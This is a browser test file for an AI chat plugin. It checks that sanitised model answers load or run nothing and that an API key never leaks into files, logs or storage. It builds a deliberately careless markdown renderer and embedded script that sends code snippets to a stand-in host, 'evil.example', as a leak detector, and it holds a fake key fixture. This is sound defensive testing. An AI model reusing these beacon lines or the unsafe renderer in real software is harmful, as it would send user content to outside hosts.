/**
 * What may never leave, in Chromium: nothing that an answer holds loads or runs, in the chat or in a note; and a key stands
 * nowhere but in the app's secret storage, whatever goes wrong.
 */
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import MarkdownIt from 'markdown-it';
import type { Page } from 'playwright-core';
import { safeMarkdown } from '../../src/core/guard/safe-markdown';
import { LIVE } from '../core/guard/cases/markdown-cases';
import { closeBrowser, openBlank, type OpenOptions } from '../host/browser';
import type { Workbench } from '../host/page';
import { openDemo, type DemoPlugin } from '../support/demo-plugin';
import { wireServer } from '../support/wire-server';

declare const workbench: Workbench;

jest.setTimeout(90_000);
afterAll(closeBrowser);

/** A renderer that refuses nothing: HTML, bare addresses and links of every kind. */
const careless = new MarkdownIt({ html: true, linkify: true });
careless.validateLink = () => true;
/** Runs code as plugins do that take over blocks and inline code: what they would run asks for an address. */
const PLUGINS = `document.querySelectorAll('code').forEach((code) => {
	const language = /language-(\\S+)/.exec(code.className)?.[1] ?? '';
	const isBlock = /^(?:dataview|dataviewjs|js-engine|meta-bind|button|run-|templater|tasks|query|base|chart|excalidraw|plantuml)/i.test(language);
	if (isBlock || /^\\s*(?:\\$=|=[^=>]|(?:INPUT|VIEW|BUTTON)\\[)/.test(code.textContent)) new Image().src = 'https://evil.example/plugin?' + encodeURIComponent(code.outerHTML.slice(0, 80));
});
if (document.documentElement.innerHTML.includes('&lt;%')) new Image().src = 'https://evil.example/template';`;

/** Every address that the page asks for once it shows this, its links not followed. */
async function askedFor(page: Page, markdown: readonly string[]): Promise<string[]> {
	const asked: string[] = [];
	const note = (request: { url(): string }): void => void (request.url().startsWith('data:') || asked.push(request.url()));
	page.on('request', note);
	await page.setContent(markdown.map((text) => `<section>${careless.render(text)}</section>`).join('\n'), { waitUntil: 'commit' });
	await page.evaluate(PLUGINS);
	await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 150)));
	page.off('request', note);
	return asked;
}

test('given every way to load or run, when it is made safe and shown without any care, then nothing is asked for', async () => {
	const page = await openBlank('0');
	await page.route('**/*', (route) => route.abort());
	for (let i = 0; i < LIVE.length; i += 40) expect(await askedFor(page, LIVE.slice(i, i + 40).map((text) => safeMarkdown(text).text))).toEqual([]);
	// As they stand they do, so that the lines above can fail.
	const asked = await askedFor(page, LIVE.filter((text) => /^(?:>|- )?!\[[^\n]*\]\([^\n]*https|^```dataviewjs|^`\$=/i.test(text)).slice(0, 30));
	expect(new Set(asked).size).toBeGreaterThan(3);
	await page.close();
});

let open: DemoPlugin | null = null;
let device = '';
async function start(data: object, options: Partial<OpenOptions> & { secrets?: Record<string, string> }): Promise<DemoPlugin> {
	const { secrets = {}, ...rest } = options;
	device = mkdtempSync(join(tmpdir(), 'praxis-leaks-'));
	writeFileSync(join(device, 'device.json'), JSON.stringify({ data, secrets, localStorage: {} }));
	return (open = await openDemo({ deviceDir: device, ...rest }));
}
afterEach(async () => {
	await open?.close();
	if (device !== '') rmSync(device, { recursive: true, force: true });
	[open, device] = [null, ''];
});

const LOCAL = { providers: [{ id: 'ollama', name: 'Ollama', baseUrl: 'http://localhost:11434', wire: 'ollama', secret: '', models: ['m'] }], modelOrigins: ['http://localhost:11434'], roleModels: { fast: '', standard: 'ollama/m', best: '' } };
const told = (text: string): Response =>
	new Response([{ message: { role: 'assistant', content: text }, done: false }, { message: { role: 'assistant', content: '' }, done: true, done_reason: 'stop' }].map((line) => `${JSON.stringify(line)}\n`).join(''), { headers: { 'content-type': 'application/x-ndjson' } });

test('given a model that answers with all of it, when the answers stand in the chat and in saved notes, then no request is made and nothing runs', async () => {
	const parts = Array.from({ length: 5 }, (_x, i) => LIVE.filter((_text, at) => at % 5 === i).join('\n\n'));
	let turn = 0;
	const { page, ask, vaultDir, calls, errors } = await start(LOCAL, {
		answer: ({ url }) => (url.endsWith('/api/chat') ? told(parts[turn] ?? '') : Response.json({ model_info: { 'm.context_length': 200_000 }, capabilities: ['completion'] })),
	});
	const missing: string[] = [];
	page.on('response', (response) => void (response.status() === 404 && missing.push(new URL(response.url()).pathname)));
	for (turn = 0; turn < parts.length; turn++) {
		await ask(`What do the herons of part ${turn} say?`);
		const last = page.locator('.praxis-turn').last();
		await last.getByRole('button', { name: 'Save as note' }).click();
		const link = last.locator('.praxis-saved .praxis-link').first();
		const path = await link.innerText();
		await link.click();
		await page.waitForFunction((wanted) => workbench.app.workspace.getActiveFile()?.path === wanted, path);
		expect(readFileSync(join(vaultDir, path), 'utf8')).toContain('evil.example');
	}
	await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 300)));
	// A picture of the vault that is not there is looked for in the vault.
	expect(missing.filter((path) => path !== '/a.png')).toEqual([]);
	expect({ errors: errors.filter((text) => !/status of 404/.test(text)), hosts: [...new Set((await calls()).map(({ url }) => new URL(url).host))] }).toEqual({ errors: [], hosts: ['localhost:11434'] });
	expect(await page.evaluate(() => document.querySelectorAll('.praxis-turn :is(img, iframe, script, object, embed, video, audio, form, svg image, style, link), .markdown-rendered :is(img[src^="http"], iframe, script, object, embed, form, style, link)').length)).toBe(0);
});

const KEY = 'sk-proj-Zq8vK2mX5tR9wB4nL7cJ1hF6dS3gP0yAuE2iO9pWrT5yU8iK';

/** Every text that the page keeps on the device, except the app's secret storage. */
async function keptOnDevice(page: Page): Promise<string[]> {
	return page.evaluate(async () => {
		const texts: string[] = [JSON.stringify(workbench.app.device__.state.data), JSON.stringify({ ...localStorage }), JSON.stringify({ ...sessionStorage }), document.cookie];
		for (const { name = '' } of await indexedDB.databases()) {
			const database = await new Promise<IDBDatabase>((resolve, reject) => Object.assign(indexedDB.open(name), { onsuccess: (event: Event) => resolve((event.target as IDBOpenDBRequest).result), onerror: reject }));
			for (const store of Array.from(database.objectStoreNames)) {
				const values = await new Promise<unknown[]>((resolve, reject) => Object.assign(database.transaction(store).objectStore(store).getAll(), { onsuccess: (event: Event) => resolve((event.target as IDBRequest<unknown[]>).result), onerror: reject }));
				texts.push(...values.map((value) => (value instanceof Uint8Array ? new TextDecoder().decode(value) : JSON.stringify(value))));
			}
			database.close();
		}
		return texts;
	});
}

/** Adds a provider with the key in the settings, by hand. */
async function addProvider(page: Page, address: string): Promise<void> {
	await page.getByRole('button', { name: 'Settings', exact: true }).click();
	await page.getByRole('button', { name: 'Add a provider' }).click();
	await page.getByLabel('Provider', { exact: true }).selectOption('');
	await page.getByLabel('Name', { exact: true }).fill('Other house');
	await page.getByLabel('Base URL').fill(address);
	await page.getByLabel('More models').fill('m');
	await page.locator('.secret-component').click();
	await page.getByLabel('Name of the secret').fill('other-key');
	await page.getByLabel('Secret', { exact: true }).fill(KEY);
	await page.getByRole('button', { name: 'Add', exact: true }).last().click();
	await page.getByRole('button', { name: 'Save', exact: true }).click();
}

test('given a key that is used, refused, and echoed by its server, then it stands in no file, record, log, notice or page', async () => {
	const server = await wireServer({ letsPagesRead: true });
	const json = { 'content-type': 'application/json', 'retry-after-ms': '1' };
	const fault = (status: number): { status: number; headers: Record<string, string>; body: string } => ({ status, headers: json, body: JSON.stringify({ error: { message: `Incorrect API key provided: ${KEY}.`, type: 'x', code: `bad ${KEY}` } }) });
	const whole = readFileSync(join(__dirname, '../fixtures/wire/openai-chat-plain.sse'), 'utf8');
	const provider = { id: 'house', name: 'House', baseUrl: `${server.url}/v1`, wire: 'openai-chat', secret: 'house-key', models: ['m'] };
	const { page, ask, runCommand, vaultDir } = await start({ onDeviceOnly: true, runLog: true, modelOrigins: [server.url], providers: [provider], roleModels: { fast: '', standard: 'house/m', best: '' } }, {
		secrets: { 'house-key': KEY },
		answer: ({ url, method, headers, body }) => fetch(url, { method, headers, redirect: 'manual', ...(body ? { body } : {}) }),
	});
	const said: string[] = [];
	page.on('console', (message) => void said.push(message.text()));
	page.on('pageerror', (error) => void said.push(error.message));
	await page.evaluate(() => {
		const seen: string[] = [];
		Object.assign(window, { noticed: seen });
		new MutationObserver((changes) => changes.forEach(({ addedNodes }) => addedNodes.forEach((node) => seen.push(node.textContent ?? '')))).observe(document.body, { childList: true, subtree: true, characterData: true });
	});
	server.queue({ body: whole }, { body: whole });
	await ask('What is my rent?');
	expect(server.seen.at(-1)?.headers.authorization).toBe(`Bearer ${KEY}`);
	for (const status of [401, 429, 500]) {
		server.queue(...Array.from({ length: 8 }, () => fault(status)));
		await ask(`What is my rent, ${status}?`);
		expect(await page.locator('.praxis-turn').last().innerText()).not.toContain(KEY.slice(3, 20));
		while (server.seen.length > 0) server.seen.pop();
		server.queue();
	}
	await addProvider(page, `${server.url}/v1`);
	server.queue(...Array.from({ length: 8 }, () => fault(401)));
	await page.getByRole('button', { name: 'Test Other house' }).click();
	await page.waitForFunction(() => document.querySelector('.setting-item .praxis-report .praxis-icon'));
	expect(server.seen.at(-1)?.headers.authorization).toBe(`Bearer ${KEY}`);
	await page.keyboard.press('Escape');
	for (const command of ['open-activity', 'open-sent', 'rebuild-index']) await runCommand(command);
	await page.locator('.praxis-sent').getByRole('button', { name: 'Export as a note' }).click();
	await page.waitForFunction(() => workbench.app.workspace.getActiveFile()?.path.startsWith('Praxis/Reports/'));
	const files = readdirSync(vaultDir, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile()).map((entry) => join(entry.parentPath, entry.name));
	const holds = (text: string): boolean => text.includes(KEY) || text.includes(KEY.slice(8, 24));
	expect(files.filter((path) => holds(readFileSync(path, 'utf8')))).toEqual([]);
	expect(said.filter(holds)).toEqual([]);
	expect(holds(await page.evaluate(() => document.documentElement.outerHTML))).toBe(false);
	expect((await page.evaluate(() => (window as unknown as { noticed: string[] }).noticed)).filter(holds)).toEqual([]);
	const kept = await keptOnDevice(page);
	expect(kept.length).toBeGreaterThan(5);
	expect(kept.filter(holds)).toEqual([]);
	await server.close();
});
